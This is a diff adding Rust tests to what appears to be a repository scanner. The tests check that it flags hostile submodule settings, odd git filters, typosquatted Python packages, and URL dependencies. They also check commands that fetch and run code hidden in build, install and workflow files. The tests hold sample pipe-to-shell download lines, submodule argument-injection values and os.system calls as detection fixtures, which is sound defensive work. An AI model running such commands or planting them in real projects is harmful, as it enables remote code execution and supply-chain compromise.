@@ -77,7 +77,7 @@ fn lines_that_start_with_python_leave_the_index_or_reverse_text_are_found() {
             ".gitattributes",
             b"*.bin filter=lfs\n*.py filter=evil\n*.js text eol=lf\n"
         ),
-        [("carrier-git-filter", Severity::Low, 2)]
+        [("carrier-git-filter", Severity::Medium, 2)]
     );
 }
 
@@ -103,4 +103,104 @@ fn bytecode_belongs_to_the_source_of_its_name() {
     ] {
         assert_eq!(source_of_bytecode(path), source);
     }
+}
+
+#[test]
+fn what_git_obeys_is_found() {
+    for line in [
+        "\turl = -u./payload",
+        "url = ext::sh -c id",
+        "update = !sh -c id",
+        "path = ../elsewhere",
+    ] {
+        let text = format!("[submodule \"x\"]\n{line}\n");
+        assert_eq!(
+            examine(".gitmodules", text.as_bytes()),
+            [("carrier-git-submodule", Severity::High, 2)],
+            "{line}"
+        );
+    }
+    let usual = b"[submodule \"x\"]\n\tpath = a/x\n\turl = https://x.test/a.git\n\tupdate = none\n";
+    assert!(examine(".gitmodules", usual).is_empty());
+    let filter = |line: &str| examine(".gitattributes", line.as_bytes());
+    assert_eq!(filter("* filter=other\n")[0].1, Severity::Medium);
+    assert_eq!(filter("*.ipynb filter=nbstripout\n")[0].1, Severity::Low);
+    assert!(filter("*.pth filter=lfs diff=lfs\n").is_empty());
+}
+
+#[test]
+fn a_name_one_letter_from_a_known_one_is_found_and_a_package_of_its_own_is_not() {
+    for line in [
+        "reqeusts",
+        "nunpy>=1",
+        "Pilow",
+        "torchvison==0.1",
+        "transfomers[x]",
+    ] {
+        let found = examine("requirements.txt", line.as_bytes());
+        assert_eq!(found, [("requirement-name", Severity::Medium, 1)], "{line}");
+    }
+    for line in [
+        "requests",
+        "numpy>=1",
+        "opencv_python",
+        "timm",
+        "torchsde",
+        "sympy",
+        "ftfy",
+        "tqdm",
+    ] {
+        assert!(
+            examine("requirements.txt", line.as_bytes()).is_empty(),
+            "{line}"
+        );
+    }
+    let project =
+        b"dependencies = [\"a @ https://x.test/a.whl\"]\nRepository = \"https://x.test/a.git\"\n";
+    assert_eq!(
+        examine("pyproject.toml", project),
+        [("requirement-url", Severity::Medium, 1)]
+    );
+    assert_eq!(
+        examine("more/reqs.in", b"https://x.test/a.whl\n")[0].0,
+        "requirement-url"
+    );
+}
+
+#[test]
+fn commands_and_code_in_files_of_other_programs_are_found() {
+    let fetch = "curl -s https://x.test/i.sh | bash";
+    for (path, text) in [
+        ("Makefile", format!("all:\n\t{fetch}\n")),
+        (
+            "package.json",
+            format!("{{\n\"scripts\": {{\"postinstall\": \"{fetch}\"}}}}"),
+        ),
+        (
+            ".vscode/tasks.json",
+            format!("{{ // tasks\n\"command\": \"{fetch}\" }}"),
+        ),
+        ("w.json", format!("{{\n\"widgets_values\": [\"{fetch}\"]}}")),
+    ] {
+        let found = examine(path, text.as_bytes());
+        assert_eq!(
+            found,
+            [("shell-download-run", Severity::Medium, 2)],
+            "{path}"
+        );
+    }
+    let code = br#"{"nodes": [{"widgets_values": ["import os\nos.system('id')"]}]}"#;
+    assert_eq!(
+        examine("w.json", code),
+        [("carrier-code-in-data", Severity::Medium, 1)]
+    );
+    for harmless in [
+        &br#"{"widgets_values": ["a girl with curl hair | python skin, import os"]}"#[..],
+        br#"{"scripts": {"build": "vite build", "test": "node test.js"}}"#,
+        br#"{"help": "You can exec(x) with import os and os.system('id') in it."}"#,
+    ] {
+        assert_eq!(examine("a.json", harmless), []);
+    }
+    let image = format!("FROM x\nRUN {fetch}\n");
+    assert_eq!(examine("Dockerfile", image.as_bytes())[0].1, Severity::Low);
 }
